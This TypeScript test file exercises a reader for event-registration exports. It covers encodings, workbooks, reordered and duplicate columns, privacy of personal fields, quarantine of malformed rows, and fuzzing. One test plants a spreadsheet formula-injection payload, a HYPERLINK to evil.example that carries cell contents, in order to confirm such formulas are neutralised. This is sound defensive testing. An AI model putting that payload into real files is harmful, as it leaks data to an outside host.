import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MusterError } from '../../src/model/error.ts';
import { type Collected, collect } from './collect.ts';
import { fixtureCsv, personalTokens, TABLE_FIXTURES, type TableFixture } from './fixtures.ts';
import { dump, losses, readEvent } from './read-event.ts';
import { gb18030, xlsx } from './write-files.ts';

function expectRead(read: Collected, fixture: TableFixture): void {
  const left = Object.values(fixture.leftOut).reduce((sum, rows) => sum + rows, 0);
  expect(read).toMatchObject({
    format: fixture.id,
    rowsIn: fixture.rows.length,
    rowsUsed: fixture.rows.length - left,
    leftOut: fixture.leftOut,
    malformed: [],
  });
  const tickets: Record<string, number> = {};
  for (const { ticket } of read.registrations) tickets[ticket] = (tickets[ticket] ?? 0) + 1;
  expect(tickets).toEqual(fixture.tickets);
  const came = read.registrations.flatMap(({ checkedIn }) => (checkedIn === null ? [] : [checkedIn]));
  expect(came.length === 0 ? null : came.filter(Boolean).length).toBe(fixture.cameIn);
  expect(new Set(read.registrations.map(({ id }) => id)).size).toBe(read.rowsUsed);
}

describe.each(TABLE_FIXTURES.map((fixture) => [fixture.id, fixture] as const))('%s', (_, fixture) => {
  it('is recognised and read with its own header', async () => {
    expectRead(await collect(fixtureCsv(fixture)), fixture);
  });

  it('is read with translated headers', async () => {
    expectRead(await collect(fixtureCsv(fixture, fixture.header, fixture.translated)), fixture);
  });

  it('is read with its columns in another order, semicolons and a byte order mark', async () => {
    // The first of two columns of one name must stay the first.
    const twice = fixture.header.filter((column, index) => fixture.header.indexOf(column) !== index);
    const columns = [
      ...fixture.header.filter((column) => !twice.includes(column)).reverse(),
      ...fixture.header.filter((column) => twice.includes(column)),
    ];
    expectRead(await collect(`\ufeff${fixtureCsv(fixture, columns, {}, ';')}`), fixture);
  });

  it('is read with columns that stand twice, and says so', async () => {
    const read = await collect(fixtureCsv(fixture, [...fixture.header, ...fixture.header.slice(0, 5)]));
    expectRead(read, fixture);
    expect(Object.keys(read.notes).filter((reason) => reason.startsWith('column-twice:')).length).toBeGreaterThanOrEqual(5);
  });

  it('is read from a workbook, below a title row', async () => {
    const rows = [
      fixture.header,
      ...fixture.rows.map((row) =>
        fixture.header.map((column, index) => (fixture.header.indexOf(column) === index ? (row[column] ?? '') : '')),
      ),
    ];
    expectRead(
      await collect(
        xlsx([
          { name: 'Notes', rows: [['Nothing here']] },
          { name: 'Export', rows: [['The event'], ...rows] },
        ]),
        'export.xlsx',
      ),
      fixture,
    );
  });

  it('is read in UTF-16, GB18030 and with Windows line ends', async () => {
    const text = fixtureCsv(fixture);
    expectRead(await collect(Buffer.from(`\ufeff${text}`, 'utf16le')), fixture);
    expectRead(await collect(gb18030(text)), fixture);
    expectRead(await collect(text.replaceAll('\n', '\r\n')), fixture);
  });

  it('names the column it cannot do without, the file, and what to do', async () => {
    const [column, field] = fixture.needed;
    const gone = fixture.id === 'mapped-registrations' ? [column, '姓名'] : [column];
    const reading = collect(
      fixtureCsv(
        fixture,
        fixture.header.filter((one) => !gone.includes(one)),
      ),
      'export.csv',
      fixture.id,
    );
    await expect(reading).rejects.toMatchObject({
      code: 'E_EVENT_COLUMN',
      message: expect.stringMatching(new RegExp(`^export\\.csv has no column for ${field} `)),
      hint: expect.stringContaining(`columns: {${field}:`),
    });
  });

  it('keeps no cell about a person anywhere in the store', async () => {
    const { db, errors } = await readEvent([{ name: 'export.csv', content: fixtureCsv(fixture) }]);
    expect(errors).toEqual([]);
    const held = await dump(db);
    db.close();
    expect(held).toContain(Object.keys(fixture.tickets)[0]);
    const tokens = personalTokens(fixture);
    expect(tokens.length).toBeGreaterThanOrEqual(3);
    for (const token of tokens) expect(held, token).not.toContain(token);
  });

  it('takes formulas for text and lets none of them further than a label', async () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"open")';
    const columns = fixture.header.filter(
      (column) => /name|Name|姓名|Company|公司|Notes|comment|Twitter/.test(column) && !/Product|ticket_name/.test(column),
    );
    const hostile = {
      ...fixture,
      rows: fixture.rows.map((row) => ({ ...row, ...Object.fromEntries(columns.map((column) => [column, attack])) })),
    };
    const read = await collect(fixtureCsv(hostile));
    expectRead(read, fixture);
    expect(JSON.stringify(read)).not.toContain('HYPERLINK');
  });

  it('lists rows that are cut off and goes on', async () => {
    const read = await collect(`${fixtureCsv(fixture)}only,three,cells\n`);
    expect(read.malformed).toEqual([{ line: fixture.rows.length + 2, reason: 'cell-count' }]);
    expectRead({ ...read, rowsIn: read.rowsIn - 1, malformed: [] }, fixture);
  });
});

it('a row that cannot be read is counted and quarantined, and holds nothing of itself', async () => {
  const fixture = TABLE_FIXTURES[0]!;
  const { db } = await readEvent([{ name: 'export.csv', content: `${fixtureCsv(fixture)}only,three,cells\n` }]);
  expect(await losses(db)).toMatchObject({ 'cell-count': 1 });
  expect(await db.all('FROM quarantine')).toEqual([
    { source: 'event:e:export.csv', file: 'export.csv', line: fixture.rows.length + 2, item: '', reason: 'cell-count', kept: false },
  ]);
  db.close();
});

it('a question with one column per choice is one question; whoever chose several is other', async () => {
  const header =
    'Order code,Position ID,Status,Product,Attendee email,Pseudonymization ID,Sales channel,Gender – Woman,Gender – Man,Your gender is asked twice';
  const row = (n: string, woman: string, man: string) => `A,${n},Paid,Ticket,p${n}@example.org,X,web,${woman},${man},`;
  const read = await collect([header, row('1', 'Yes', 'No'), row('2', 'No', 'No'), row('3', 'Yes', 'Yes'), ''].join('\n'));
  expect(read.questions).toEqual(['attendee gender: Gender']);
  expect(read.registrations.map(({ answers }) => answers.gender)).toEqual(['women', undefined, 'other']);
});

it('whatever JSON or cut-off XML a file holds, reading it ends in rows or in an error with a code', async () => {
  const keys = fc.constantFrom(
    'event',
    'orders',
    'positions',
    'results',
    'sessions',
    'speakers',
    'code',
    'state',
    'submission_type',
    'isServiceSession',
    'schedule',
    'conference',
    'days',
    'rooms',
    'items',
    'questions',
    'answers',
    'id',
  );
  const { value } = fc.letrec((tie) => ({
    value: fc.oneof(
      { maxDepth: 6 },
      fc.jsonValue({ maxDepth: 1 }),
      fc.array(tie('value'), { maxLength: 3 }),
      fc.dictionary(keys, tie('value'), { maxKeys: 6 }),
    ),
  }));
  const xml =
    '<schedule><day date="2019-06-25"><room name="A"><event id="1"><start>09:00</start><track>x</track></event></room></day></schedule>';
  const contents = fc.oneof(
    value.map((one) => JSON.stringify(one)),
    fc.nat(xml.length).map((at) => xml.slice(0, at)),
  );
  await fc.assert(
    fc.asyncProperty(contents, async (content) => {
      const outcome = await collect(content, 'any').then(
        (read) => read.rowsIn,
        (error: unknown) => (error instanceof MusterError ? error.code : error),
      );
      expect(typeof outcome === 'number' || /^E_EVENT_/.test(String(outcome)), String(outcome)).toBe(true);
    }),
    { numRuns: 300 },
  );
});
